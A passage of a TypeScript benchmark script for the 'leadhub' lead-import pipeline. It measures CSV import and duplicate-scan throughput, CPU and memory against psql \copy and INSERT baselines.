  console.log(`  database ${name} (BENCH_IMPORT_KEEP_DB): kept at the end; drop it by hand`);
  return { ...runEnv, dbName: name, databaseUrl: url.href, db };
}

/**
 * The duplicate scan of a kept import again, on the state the import left: the earlier scans'
 * reviews deleted and their flags cleared (their merges could not be undone: refused), then a new
 * scan queued for one fresh worker.
 */
async function scanAgain(runEnv: BenchEnv, imp: { id: string; tenant_id: string; processed_rows: number }): Promise<BenchReport> {
  const env = withPrefix(runEnv, "import");
  const { db } = env;
  console.log(`\n== import, the duplicate scan only: import ${imp.id} (${fmt(imp.processed_rows)} rows) in ${env.dbName} ==`);
  const [{ merged }] = await db("dedup_scans").where("import_id", imp.id).sum<{ merged: string | null }[]>("merged as merged");
  if (Number(merged) > 0) throw new Error(`an earlier scan of this import merged ${merged} leads: re-import (drop ${env.dbName})`);
  const resolved = await db("lead_merges").where("tenant_id", imp.tenant_id).whereNotNull("review_id").first("id");
  if (resolved) throw new Error(`a review of this tenant was resolved by a merge: re-import (drop ${env.dbName})`);
  const deleted = await db.transaction(async (trx): Promise<number> => {
    await trx.raw(
      `UPDATE leads l SET is_duplicate = false, duplicate_of_id = NULL WHERE l.tenant_id = ?
         AND l.id IN (SELECT lead_id FROM duplicate_reviews WHERE tenant_id = ? AND origin = 'scan')
         AND NOT EXISTS (SELECT 1 FROM duplicate_reviews r WHERE r.lead_id = l.id AND r.origin <> 'scan')`,
      [imp.tenant_id, imp.tenant_id],
    );
    // No lead_merges row names a review (checked above); its foreign key, checked row by row without an index, took minutes.
    await trx.raw("SET LOCAL session_replication_role = replica");
    return await trx("duplicate_reviews").where({ tenant_id: imp.tenant_id, origin: "scan" }).del();
  });
  // Not the leads: a fresh import's scan finds none of its pages all-visible (autovacuum has not been by), nor should this one.
  await db.raw("VACUUM ANALYZE duplicate_reviews");
  console.log(`  earlier scans undone: ${fmt(deleted)} reviews deleted, their flags cleared`);
  let worker: Proc | undefined;
  const redis = producerConnection(env.redisUrl);
  const queues = createQueues(redis, env.prefix);
  try {
    worker = spawnWorker("worker", leadhubEnv(env));
    await worker.waitForLine(/^ready$/, 60_000);
    const wpid = worker.child.pid!;
    const started = worker.waitForLine(/^started$/, 60_000);
    worker.child.stdin!.write("go\n");
    await started;
    await waitForQuiet();
    const [scan] = await db("dedup_scans").insert({ tenant_id: imp.tenant_id, import_id: imp.id, auto_merge: true }).returning("id");
    await queues.enqueue("dedup.scan", { tenantId: imp.tenant_id, scanId: scan.id }, { jobId: jobId.dedupScan(scan.id) });
    const poll = async () => (await db("dedup_scans").where("id", scan.id).first()) as ScanRow;
    const r = await measureScan(env, wpid, { worker: wpid }, poll, { at: performance.now() });
    const hwm = memoryOf(wpid)?.hwm ?? NaN;
    const line =
      `duplicate scan only (kept import of ${fmt(imp.processed_rows)} rows): **${fmt(r.scanRate, 1)} leads/s** (${fmt(r.scan.processed)} of ${fmt(r.scan.total)} in ${r.scanSeconds.toFixed(0)} s` +
      `${r.scanTimedOut ? ", STILL RUNNING at the timeout" : ""}); merged ${fmt(r.scan.merged)}, reviews ${fmt(r.scan.reviews)}; worker RSS max ${r.scanRss.toFixed(0)} MB (VmHWM ${hwm.toFixed(0)} MB); ` +
      `CPU (cores of 2): ${formatSplit(r.scanCpu)}`;
    return { name: "import", text: line, markdown: `- ${line}` };
  } finally {
    await Promise.all([worker && killTree(worker), queues.close()]);
    redis.disconnect();
  }
}

async function fullRun(env: BenchEnv): Promise<BenchReport> {
  console.log(
    `\n== import: a ${fmt(ROWS)}-row HubSpot-style CSV through POST /api/imports and one worker, beside \\copy and a set-based INSERT into leads ==`,
  );
  const dir = mkdtempSync(join(tmpdir(), "lh-bench-import-"));
  scratchDirs.add(dir);
  try {
    const path = join(dir, "hubspot-contacts-export.csv");
    const dataDir = join(dir, "data");
    mkdirSync(dataDir);
    const csv = await writeCsv(path, ROWS);
    const mb = csv.bytes / 1e6;
    console.log(
      `  file: ${fmt(ROWS)} rows, ${mb.toFixed(1)} MB (${(csv.bytes / 2 ** 20).toFixed(1)} MiB, ${(csv.bytes / ROWS).toFixed(0)} bytes/row), written in ${csv.seconds.toFixed(1)} s; ` +
        `${fmt(csv.people)} people, ${fmt(csv.repeats)} repeat rows, ${fmt(csv.unusable)} rows without a usable email or phone, ${fmt(csv.formulas)} formula cells`,
    );

    // The limits first, on the same machine, minutes apart: the leads table then holds the floor's rows (another tenant) during leadhub's import.
    const copy = await copyLimit(env, path, ROWS);
    console.log(
      `  \\copy into a plain table + unique index: ${copy.seconds.toFixed(2)} s → ${fmt(copy.perSecond)} rows/s; CPU: ${formatSplit(copy.cpu)}`,
    );
    await env.db.raw("DROP TABLE bench_import_copy");
    const floor = await leadsFloor(env, ROWS);
    console.log(
      `  INSERT … SELECT generate_series into leads (all indexes): ${floor.seconds.toFixed(2)} s → ${fmt(floor.perSecond)} rows/s; CPU: ${formatSplit(floor.cpu)}`,
    );
    await env.db.raw("VACUUM ANALYZE leads");

    const r = await leadhub(env, path, csv.bytes, dataDir);
    const imp = r.imp;
    const partial = r.importTimedOut || imp.status !== "done";
    const rateNote = `${fmt(r.importRate)} rows/s${partial ? ` (${imp.status} after ${fmt(imp.processed_rows)} of ${fmt(ROWS)} rows: rate over those)` : ""}`;
    const vs = `${ratio(r.importRate, copy.perSecond, 3)} \\copy, ${ratio(r.importRate, floor.perSecond, 2)} leads floor`;
    const scanNote = r.scan
      ? `${fmt(r.scanRate, 1)} leads/s (${fmt(r.scan.processed)} of ${fmt(r.scan.total)} in ${r.scanSeconds.toFixed(0)} s${r.scanTimedOut ? ", STILL RUNNING at the timeout" : ""}; merged ${fmt(r.scan.merged)}, reviews ${fmt(r.scan.reviews)})`
      : "no scan (the import did not finish)";
    const cores = (split: Record<string, number>, pre: string) =>
      Object.entries(split).reduce((a, [k, v]) => (k.startsWith(pre) ? a + v : a), 0);
    const msPerRow = (split: Record<string, number>, rate: number, pre: string) =>
      rate > 0 ? ((cores(split, pre) / rate) * 1000).toFixed(3) : "–";
    const t = table(
      ["what", "rows/s", "leadhub vs this", "time", "CPU ms/row: node + postgres", "CPU (cores of 2)"],
      [
        [
          "psql \\copy into a plain table (13 text columns, unique index)",
          fmt(copy.perSecond),
          ratio(r.importRate, copy.perSecond, 3),
          `${copy.seconds.toFixed(1)} s`,
          `${msPerRow(copy.cpu, copy.perSecond, "psql")} + ${msPerRow(copy.cpu, copy.perSecond, "postgres")}`,
          formatSplit(copy.cpu),
        ],
        [
          "INSERT … SELECT generate_series into leads (all indexes)",
          fmt(floor.perSecond),
          ratio(r.importRate, floor.perSecond, 2),
          `${floor.seconds.toFixed(1)} s`,
          `– + ${msPerRow(floor.cpu, floor.perSecond, "postgres")}`,
          formatSplit(floor.cpu),
        ],
        [
          `leadhub import, 1 worker${partial ? ` (${imp.status}, partial)` : ""}`,
          rateNote,
          "1.00×",
          `${r.importSeconds.toFixed(1)} s`,
          `${msPerRow(r.importCpu, r.importRate, "worker")} + ${msPerRow(r.importCpu, r.importRate, "postgres")}`,
          formatSplit(r.importCpu),
        ],
        [
          "leadhub duplicate scan after it (fuzzy pass), leads/s",
          r.scan ? fmt(r.scanRate, 1) : "–",
          "",
          r.scan ? `${r.scanSeconds.toFixed(1)} s` : "",
          r.scan ? `${msPerRow(r.scanCpu, r.scanRate, "worker")} + ${msPerRow(r.scanCpu, r.scanRate, "postgres")}` : "",
          formatSplit(r.scanCpu),
        ],
      ],
    );
    const peak = Math.max(r.workerHwm, r.importRss, r.scanRss);
    const notes = [
      `file: ${fmt(ROWS)} rows, ${mb.toFixed(1)} MB; ${fmt(csv.repeats)} repeat rows (${((100 * csv.repeats) / ROWS).toFixed(1)}%), ${fmt(csv.unusable)} without a usable email or phone, ${fmt(csv.formulas)} formula cells`,
      `upload (POST /api/imports, multipart, start=true): ${r.upload.seconds.toFixed(2)} s → ${(mb / r.upload.seconds).toFixed(1)} MB/s; API peak RSS ${r.upload.apiHwm.toFixed(0)} MB; CPU: ${formatSplit(r.upload.cpu)}`,
      `import: **${rateNote}** = ${vs}; ${fmt(imp.processed_rows)} rows in ${r.importSeconds.toFixed(1)} s (started_at → finished_at); imported ${fmt(imp.imported)}, merged ${fmt(imp.merged)}, flagged ${fmt(imp.flagged)}, rejected ${fmt(imp.rejected)}`,
      `import: busy PostgreSQL backends (avg): ${formatSplit(r.importWaits.waits) || "none"}; statements most seen running: ${r.importWaits.topQueries}`,
      `worker peak memory: **${peak.toFixed(0)} MB** (VmHWM ${r.workerHwm.toFixed(0)} MB; VmRSS sampled every 500 ms: max ${r.importRss.toFixed(0)} MB during the import${r.scan ? `, ${r.scanRss.toFixed(0)} MB during the scan` : ""}; ${r.workerStartRss.toFixed(0)} MB at start) — goal < ${MEMORY_GOAL_MB} MB: ${peak < MEMORY_GOAL_MB ? "met" : "NOT met"}; ${r.workerCheck}`,
      `fuzzy pass (duplicate scan of the import's leads): ${scanNote}`,
      ...(r.scan
        ? [
            `scan: busy PostgreSQL backends (avg): ${formatSplit(r.scanWaits.waits) || "none"}; statements most seen running: ${r.scanWaits.topQueries}`,
          ]
        : []),
      ...(r.importProfile ? [`worker CPU profile, import: ${r.importProfile}`] : []),
      ...(r.scanProfile ? [`worker CPU profile, scan: ${r.scanProfile}`] : []),
      `leads floor ran first (another tenant): the leads table held ${fmt(ROWS)} other rows during leadhub's import`,
    ];
    return {
      name: "import",
      text: `${t.text}\n${notes.join("\n")}`,
      markdown: `${t.markdown}\n\n${notes.map((n) => `- ${n}`).join("\n")}`,
    };
  } finally {
    rmSync(dir, { recursive: true, force: true });
    scratchDirs.delete(dir);
  }
}
